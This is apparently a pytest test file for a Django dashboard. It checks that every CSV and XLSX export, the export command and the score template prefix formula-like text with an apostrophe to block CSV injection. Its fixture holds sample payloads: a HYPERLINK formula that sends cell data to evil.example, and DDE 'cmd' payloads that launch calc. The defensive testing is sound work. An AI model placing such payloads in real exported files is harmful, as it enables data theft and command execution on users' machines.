"""Every export (rankings, audit trail, dossier ranking and overdue dossiers, each CSV and XLSX;
export_rankings, the score template) gives a text that a spreadsheet would run as a formula (= + - @,
a leading tab or carriage return) with a leading apostrophe, the OWASP advice against CSV
injection; numbers, negative ones too, stay numbers."""

import csv
import io
from decimal import Decimal as D

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from audit.services import audit_record
from indicators.models import Band, Result
from reformdash.lib.export import FORMULA_STARTS, safe_cell
from reformdash.lib.tabular import read_table
from tests.dossiers.test_stats import example  # noqa: F401 (a fixture)
from tests.hostile.conftest import world  # noqa: F401 (fixtures, used as test arguments)
from units.models import Unit, UnitKind

NAMES = {
    "A": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "A2": '+cmd|" /C calc"!A0',
    "B": '-2+3+cmd|" /C calc"!A0',
    "C": '@SUM(1+1)*cmd|" /C calc"!A0',
    "B1": "\t=1+1",
    "P": "\r=1+1",
}
BAND = "=BAND()"
REASON = "=REASON()"


@pytest.fixture
def formulas(world, admin_user):
    """The hostile world with names, a band, a reason and changes that spreadsheets would run, and a
    previous year's ranks, so that one rank change is negative (A fell from 1st to 2nd)."""
    for code, name in NAMES.items():
        Unit.objects.filter(code=code).update(name=name)
    band = Band.objects.create(
        index=world.index, year=2024, unit_kind=UnitKind.DEPARTMENT, name=BAND, min_value=0, position=0
    )
    Result.objects.filter(year=2024, unit__code="A").update(
        previous_rank=1, previous_group_size=2, rank_comparable=True, band=band
    )
    Result.objects.filter(year=2024, unit__code="A2").update(
        previous_rank=2, previous_group_size=2, rank_comparable=True, band=band
    )
    audit_record(
        action="score.final",
        user=admin_user,
        unit=world.tree.dept_a,
        criterion=world.criteria["1.1"],
        changes={"note": ("-x", "@y")},
        reason=REASON,
        batch="formula1",
    )
    return world


def test_safe_cell_prefixes_text_that_starts_a_formula():
    for start in FORMULA_STARTS:
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Sở A") == "Sở A"
    assert safe_cell("a=1") == "a=1"
    assert safe_cell(None) == ""


def test_numbers_stay_numbers_negative_ones_too():
    for number in (-1, 0, 3, -2.5, D("-84.600000"), D("84.6")):
        assert safe_cell(number) == number


def _csv_rows(response):
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def _formula_cells_in_csv(rows):
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]


def _formula_cells_in_xlsx(content):
    """Cells that a spreadsheet would run: stored formulas, or text starting like one."""
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS))
    ]


def _xlsx_values(content):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows(values_only=True) for cell in row]


RANKINGS = "/rankings/?index=par&year=2024&kind=department&parent=P&export="


def test_the_rankings_csv(client, formulas, admin_user):
    client.force_login(admin_user)
    rows = _csv_rows(client.get(RANKINGS + "csv"))
    assert _formula_cells_in_csv(rows) == []
    cells = {cell for row in rows for cell in row}
    assert {"'" + NAMES["A"], "'" + NAMES["A2"], "'" + BAND} <= cells
    assert "-1" in cells  # A's fall, as the number it is


def test_the_rankings_xlsx(client, formulas, admin_user):
    client.force_login(admin_user)
    response = client.get(RANKINGS + "xlsx")
    assert response.status_code == 200
    assert _formula_cells_in_xlsx(response.content) == []
    values = _xlsx_values(response.content)
    assert {"'" + NAMES["A"], "'" + NAMES["A2"], "'" + BAND} <= set(values)
    assert -1 in values and 40 in values  # numbers, not text


def test_the_audit_csv(client, formulas, admin_user):
    client.force_login(admin_user)
    rows = _csv_rows(client.get("/audit/?export=csv"))
    assert _formula_cells_in_csv(rows) == []
    assert "'" + REASON in {cell for row in rows for cell in row}


def test_the_audit_xlsx(client, formulas, admin_user):
    client.force_login(admin_user)
    response = client.get("/audit/?export=xlsx")
    assert response.status_code == 200
    assert _formula_cells_in_xlsx(response.content) == []
    assert "'" + REASON in _xlsx_values(response.content)


def test_the_dossier_ranking_csv(client, formulas, admin_user):
    # A district of a second province: two groups, so that the export names each row's group (P's name).
    other = Unit.objects.create(code="Q9", name="Tỉnh Q9", kind=UnitKind.PROVINCE)
    Unit.objects.create(code="Q9D", name="Huyện Q9", kind=UnitKind.DISTRICT, parent=other)
    client.force_login(admin_user)
    rows = _csv_rows(client.get("/dossiers/?period=quarter&year=2024&quarter=2&kind=district&export=csv"))
    assert _formula_cells_in_csv(rows) == []
    cells = {cell for row in rows for cell in row}
    assert {"'" + NAMES["B"], "'" + NAMES["C"], "'" + NAMES["P"]} <= cells


def test_the_dossier_ranking_xlsx(client, formulas, admin_user):
    client.force_login(admin_user)
    response = client.get("/dossiers/?period=quarter&year=2024&quarter=2&kind=district&export=xlsx")
    assert response.status_code == 200
    assert _formula_cells_in_xlsx(response.content) == []
    assert {"'" + NAMES["B"], "'" + NAMES["C"]} <= set(_xlsx_values(response.content))


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_overdue_dossiers_exports(client, formulas, admin_user, export):
    client.force_login(admin_user)
    response = client.get(f"/dossiers/units/P/overdue/?export={export}")
    if export == "csv":
        rows = _csv_rows(response)
        assert _formula_cells_in_csv(rows) == []
        cells = {cell for row in rows for cell in row}
    else:
        assert response.status_code == 200
        assert _formula_cells_in_xlsx(response.content) == []
        cells = set(_xlsx_values(response.content))
    assert {"'" + NAMES["A"], "'" + NAMES["B1"]} <= cells  # the units with overdue dossiers


def test_the_export_rankings_command(formulas):
    out = io.StringIO()
    call_command("export_rankings", index="par", year=2024, kind="department", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert _formula_cells_in_csv(rows) == []
    cells = {cell for row in rows for cell in row}
    assert {"'" + NAMES["A"], "'" + BAND, "-1"} <= cells


def test_the_score_template_holds_no_formula_and_its_codes_import_back_as_typed(client, formulas, appraiser):
    # Codes are read back by the importer: they are kept exactly, as text cells a spreadsheet does not
    # run, instead of being prefixed. Names and titles are only for people: prefixed.
    Unit.objects.create(code="=A3", name="Sở A3", kind=UnitKind.DEPARTMENT, parent=formulas.tree.province)
    formulas.criteria["2.1"].__class__.objects.filter(pk=formulas.criteria["2.1"].pk).update(code="+2.1")
    client.force_login(appraiser)
    response = client.get("/imports/template/", {"index": "par", "year": 2024, "kind": "department"})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert {"=A3", "+2.1", "'" + NAMES["A"]} <= values
    assert not [
        value
        for value in values
        if isinstance(value, str) and value.startswith(FORMULA_STARTS) and value not in ("=A3", "+2.1")
    ]
    table = read_table(io.BytesIO(response.content), filename="template.xlsx")
    assert "+2.1" in table.headers and "=A3" in {row.get("unit_code") for row in table.rows}
